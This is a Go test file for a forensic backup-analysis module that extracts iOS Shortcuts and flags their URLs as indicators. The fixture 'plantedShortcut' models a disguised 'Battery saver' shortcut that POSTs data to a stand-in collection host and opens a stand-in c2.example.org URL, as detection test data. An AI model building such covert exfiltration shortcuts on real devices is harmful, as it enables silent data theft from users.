package ios

import (
	"errors"
	"slices"
	"testing"
	"time"

	"github.com/vigil-project/vigil/internal/fixture"
	"github.com/vigil-project/vigil/internal/ioc"
	"github.com/vigil-project/vigil/internal/module"
	"github.com/vigil-project/vigil/internal/module/moduletest"
)

// plantedShortcut fetches a URL from a parameter nested in a token string, and opens one.
func plantedShortcut(wrapped bool) fixture.Shortcut {
	return fixture.Shortcut{
		Name: "Battery saver", Description: "2 actions", Created: fixture.Epoch.Add(-72 * time.Hour),
		Modified: fixture.Epoch.Add(-time.Hour), WrappedInWorkflow: wrapped,
		Actions: []fixture.ShortcutAction{
			{Identifier: "is.workflow.actions.downloadurl", Parameters: map[string]any{
				"WFHTTPMethod": "POST",
				"WFURL": map[string]any{"Value": map[string]any{
					"string": "https://collect.example.net/u?d=\uFFFC, then done", "attachmentsByRange": map[string]any{}},
					"WFSerializationType": "WFTextTokenString"}}},
			{Identifier: "is.workflow.actions.openurl", Parameters: map[string]any{"WFInput": "'https://c2.example.org/x',"}},
			{Identifier: "is.workflow.actions.comment", Parameters: map[string]any{"WFCommentActionText": "no links here"}},
		},
	}
}

func TestShortcuts(t *testing.T) {
	decoy := fixture.Shortcut{Name: "Timer", Created: fixture.Epoch.Add(-time.Hour), Modified: fixture.Epoch.Add(-time.Hour),
		Actions: []fixture.ShortcutAction{{Identifier: "is.workflow.actions.timer.start", Parameters: map[string]any{"WFDuration": int64(5)}}}}
	empty := fixture.Shortcut{Name: "Empty", NoActions: true}
	tests := []struct {
		name string
		sc   fixture.Shortcut
		opts fixture.ShortcutsOptions
	}{
		{"action list", plantedShortcut(false), fixture.ShortcutsOptions{}},
		{"workflow dictionary, no description column", plantedShortcut(true), fixture.ShortcutsOptions{NoDescription: true}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b := fixture.NewBackup()
			if err := fixture.Shortcuts(b, []fixture.Shortcut{tt.sc, decoy, empty}, tt.opts); err != nil {
				t.Fatal(err)
			}
			res := moduletest.Run(t, NewShortcuts(), moduletest.OpenBackup(t, b))
			if res.Err != nil || len(res.Problems) > 0 || len(res.Records) != 3 {
				t.Fatalf("err = %v, problems = %v, records = %d", res.Err, res.Problems, len(res.Records))
			}
			s := res.Records[0].(Shortcut)
			wantURLs := []string{"https://collect.example.net/u?d=\uFFFC", "https://c2.example.org/x"}
			if !slices.Equal(s.URLs(), wantURLs) || len(s.Actions) != 3 || s.Actions[1].Identifier != "is.workflow.actions.openurl" {
				t.Errorf("shortcut = %+v, URLs %q", s, s.URLs())
			}
			if tt.opts.NoDescription == (s.Description != "") {
				t.Errorf("description = %q", s.Description)
			}
			if rec := res.Records[1].(Shortcut); len(rec.URLs()) != 0 || len(rec.Observables()) != 0 {
				t.Errorf("decoy = %+v", rec)
			}
			if obs := res.Observables(); !slices.Equal(obs, []ioc.Observable{{Type: ioc.URL, Value: wantURLs[0]}, {Type: ioc.URL, Value: wantURLs[1]}}) {
				t.Errorf("observables = %+v", obs)
			}
			ev := s.Events()
			if len(ev) != 2 || ev[0].Event != "shortcut_created" || ev[1].Event != "shortcut_modified" ||
				!ev[1].Time.Equal(fixture.Epoch.Add(-time.Hour)) {
				t.Errorf("events = %+v", ev)
			}
			if len(res.Records[2].(Shortcut).Events()) != 0 {
				t.Error("a shortcut without dates has no events")
			}
		})
	}
}

func TestShortcutsDamage(t *testing.T) {
	t.Run("absent", func(t *testing.T) {
		res := moduletest.Run(t, NewShortcuts(), moduletest.OpenBackup(t, fixture.NewBackup()))
		if !errors.Is(res.Err, module.ErrNoData) {
			t.Fatalf("err = %v", res.Err)
		}
	})
	t.Run("damaged actions keep the shortcut", func(t *testing.T) {
		b := fixture.NewBackup()
		bad := []fixture.Shortcut{{Name: "Bad", RawData: []byte("bplist00\x00\x01\x02 truncated")},
			{Name: "Dict", RawData: []byte(`<plist version="1.0"><string>no list</string></plist>`)}}
		if err := fixture.Shortcuts(b, bad, fixture.ShortcutsOptions{}); err != nil {
			t.Fatal(err)
		}
		res := moduletest.Run(t, NewShortcuts(), moduletest.OpenBackup(t, b))
		if res.Err != nil || len(res.Records) != 2 || len(res.Problems) != 2 {
			t.Fatalf("err = %v, records = %d, problems = %v", res.Err, len(res.Records), res.Problems)
		}
	})
	for name, data := range map[string][]byte{
		"corrupt":        []byte("SQLite format 3\x00 \x13\x37 garbage"),
		"no ZSHORTCUT":   mustSQLite(t, `CREATE TABLE ZSHORTCUTACTIONS (ZSHORTCUT, ZDATA);`),
		"not a database": []byte("hello"),
	} {
		t.Run(name, func(t *testing.T) {
			b := fixture.NewBackup()
			b.File(fixture.ShortcutsDomain, fixture.ShortcutsPath, data)
			res := moduletest.Run(t, NewShortcuts(), moduletest.OpenBackup(t, b))
			if res.Err == nil || errors.Is(res.Err, module.ErrNoData) {
				t.Fatalf("err = %v", res.Err)
			}
		})
	}
}
